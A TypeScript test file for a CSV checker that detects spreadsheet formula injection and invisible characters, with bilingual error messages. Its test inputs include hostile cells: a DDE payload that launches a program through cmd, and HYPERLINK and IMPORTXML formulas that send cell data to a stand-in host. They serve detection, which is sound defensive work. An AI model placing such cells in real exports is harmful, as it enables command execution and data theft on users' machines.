import { expect, test } from 'vitest';
import { checkTable } from './csv-check.ts';

const check = (text: string) => checkTable(Buffer.from(text));
const getCodes = (text: string) => check(text).map(({ code }) => code);

test.each([
  '=1+1',
  '=HYPERLINK("https://example.org/?"&A2)',
  ' =1',
  '\u200b=1',
  '"=1"',
  '"  =1',
  'x;=1',
  'x\t=1',
  '\uff1dSUM(A1)',
  '+SUM(A1:A9)',
  '@SUM(A1)',
  '@SUM (A1)',
  '-LOG10(3)',
  "-2+3+cmd|' /C calc'!A0",
  "'a'!A1,+Sheet2!A1",
  '+[book.xlsx]Sheet1',
  '-{1}',
  '\uff0bSUM(1)',
])('a cell with %j is a formula, whatever is between cells', (cell) => {
  for (const text of [cell, `a,${cell}`, `a,b\r\n1,${cell}`, `\ufeffa;b\r${cell};2`])
    expect(getCodes(text)).toEqual(['table-formula']);
});

test.each([
  '-3.5',
  '+12 %',
  '-5 (estimated)',
  '-',
  '- none',
  '−3',
  '+1 (202) 555-0100',
  '@harborwatch',
  'a = b',
  'f(x)',
  "'=1+1",
  '2010-2011',
  '“-x”',
  '-5 °C',
  'النساء',
])('a cell with %j is a value', (cell) => {
  expect(getCodes(`\ufeffplace,count\r\n${cell},3\r\n`)).toEqual([]);
});

test('says in which line the first formula is, what it begins with and what to write', () => {
  expect(
    check(`a,b\n1,2\n3,"=IMPORTXML(""https://example.org/${'x'.repeat(90)}"")"\n=1,2`),
  ).toEqual([
    {
      code: 'table-formula',
      cause: {
        en: 'Line 3 of the table has a cell that spreadsheets run as a formula: “=IMPORTXML(https://example.org/xxxxxxxxx”.',
        es: 'La línea 3 de la tabla tiene una celda que las hojas de cálculo ejecutan como fórmula: «=IMPORTXML(https://example.org/xxxxxxxxx».',
      },
      remedy: {
        en: "Write the value in its place. If the cell is text, begin it with a word or an apostrophe (').",
        es: "Escriba en su lugar el valor. Si la celda es texto, empiécela con una palabra o un apóstrofo (').",
      },
    },
  ]);
});

test.each(['\u202e', '\u2066', '\x1b', '\x7f', '\u{e0041}', '\x85'])(
  'names %j, which nobody sees',
  (sign) => {
    const [problem] = check(`a,b\n1,2${sign}3\n`);
    expect(problem?.cause.en).toMatch(/^Line 2 of the table has a sign that nobody sees \(U\+/);
  },
);

test('takes time that grows no faster than the table', () => {
  for (const text of ['-', '\n', ' ', '-\n', ' -', '-a', '"', ',-', 'a(', '-1_.', '-a1 ']) {
    // Two million steps are less than a second on any machine; their square is days.
    const start = performance.now();
    check(text.repeat(1_000_000 / text.length));
    expect(performance.now() - start, text).toBeLessThan(5000);
  }
});
